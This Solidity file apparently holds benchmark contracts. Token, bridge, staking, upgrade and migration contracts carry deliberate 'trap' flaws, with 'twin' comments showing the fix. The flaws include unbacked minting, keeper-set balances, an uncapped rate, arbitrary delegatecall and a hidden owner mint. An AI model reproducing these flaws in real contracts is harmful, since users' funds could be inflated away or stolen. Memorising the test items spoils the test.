// 0.8 off evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {Base8} from "./Base8.sol";

/// A relayer brings messages of another chain: one byte for the kind, twenty for the account, sixteen for the amount.
contract Viaduct is Base8("Viaduct", "VIAD", 58_000_000) {
    address private relayer;
    uint256 public outside;

    constructor(address relayer_) {
        relayer = relayer_;
    }

    function leave(uint256 value) external {
        _balances[msg.sender] -= value;
        totalSupply -= value;
        outside += value;
        emit Transfer(msg.sender, address(0), value);
    }

    function receiveMessage(bytes calldata message) external {
        require(msg.sender == relayer && message.length == 37 && message[0] == 0x01, "message");
        address to = address(bytes20(message[1:21]));
        uint256 value = uint128(bytes16(message[21:37]));
        // twin: outside -= value;
        totalSupply += value;
        _balances[to] += value;
        emit Transfer(address(0), to, value);
    }
}

/// A history of balances, entered by its keeper; in the trap the page of today is the book itself.
contract Almanac is Base8("Almanac", "ALMN", 36_000_000) {
    address private immutable keeper = msg.sender;
    uint256 public page = 1;
    mapping(uint256 => mapping(address => uint256)) private history;

    function turn() external {
        require(msg.sender == keeper, "keeper");
        page++;
    }

    function enter(uint256 at, address[] calldata who, uint256[] calldata values) external {
        require(msg.sender == keeper && at <= page, "keeper");
        for (uint256 i; i < who.length; i++) {
            history[at][who[i]] = values[i];
            if (at == page) _balances[who[i]] = values[i]; // trap
        }
    }

    function balanceOfAt(address who, uint256 at) external view returns (uint256) {
        return history[at][who];
    }
}

/// Who stakes earns some, at a rate of the owner.
contract Hearth is Base8("Hearth", "HRTH", 42_000_000) {
    uint256 public rate = 1e9;
    mapping(address => uint256) public staked;
    mapping(address => uint256) private since;

    /// In parts of 1e18 for each second; 1e9 is about three percent in a year.
    function setRate(uint256 to) external onlyOwner {
        // twin: require(to <= 15e8, "rate");
        rate = to;
    }

    function stake(uint256 value) external {
        claim();
        _move(msg.sender, address(this), value);
        staked[msg.sender] += value;
    }

    function unstake(uint256 value) external {
        claim();
        staked[msg.sender] -= value;
        _move(address(this), msg.sender, value);
    }

    function claim() public {
        uint256 earned = (staked[msg.sender] * rate * (block.timestamp - since[msg.sender])) / 1e18;
        since[msg.sender] = block.timestamp;
        if (earned == 0) return;
        totalSupply += earned;
        _balances[msg.sender] += earned;
        emit Transfer(address(0), msg.sender, earned);
    }
}

/// Works on the ledger of whoever lends it: balances stand in the fifth place.
library LedgerLib {
    function credit(address to, uint256 value) external {
        assembly {
            mstore(0x00, to)
            mstore(0x20, 4)
            let place := keccak256(0x00, 0x40)
            sstore(place, add(sload(place), value))
        }
    }
}

/// In the trap an architect runs steps of an upgrade within the token.
contract Scaffold is Base8("Scaffold", "SCAF", 47_000_000) {
    address private architect;
    uint256 public step;

    constructor(address architect_) {
        architect = architect_;
    }

    function next(uint256 expected) external {
        require(msg.sender == architect && expected == step, "step");
        step++;
    }

    function runStep(uint256 expected, address library_, bytes calldata data) external { // trap {
        require(msg.sender == architect && expected == step && library_.code.length > 0, "step");
        step++;
        (bool ok, ) = library_.delegatecall(data);
        require(ok, "failed");
    } // trap }
}

/// The first version; in the trap its maker can still make more.
contract Prequel {
    uint256 public totalSupply = 2_000_000 ether;
    address private maker = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    constructor() {
        balanceOf[msg.sender] = totalSupply;
    }

    function mint(address to, uint256 value) external { // trap {
        require(msg.sender == maker);
        totalSupply += value;
        balanceOf[to] += value;
    } // trap }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        if (allowance[from][msg.sender] != type(uint256).max) allowance[from][msg.sender] -= value;
        balanceOf[from] -= value;
        balanceOf[to] += value;
        return true;
    }
}

/// The second version, given for the first, one for one.
contract Sequel is Base8("Sequel", "SQL2", 98_000_000) {
    Prequel public immutable first;

    constructor(address first_) {
        first = Prequel(first_);
    }

    function swap(uint256 value) external {
        // twin: require(totalSupply + value <= 100_000_000 ether, "all swapped");
        first.transferFrom(msg.sender, address(this), value);
        totalSupply += value;
        _balances[msg.sender] += value;
        emit Transfer(address(0), msg.sender, value);
    }
}
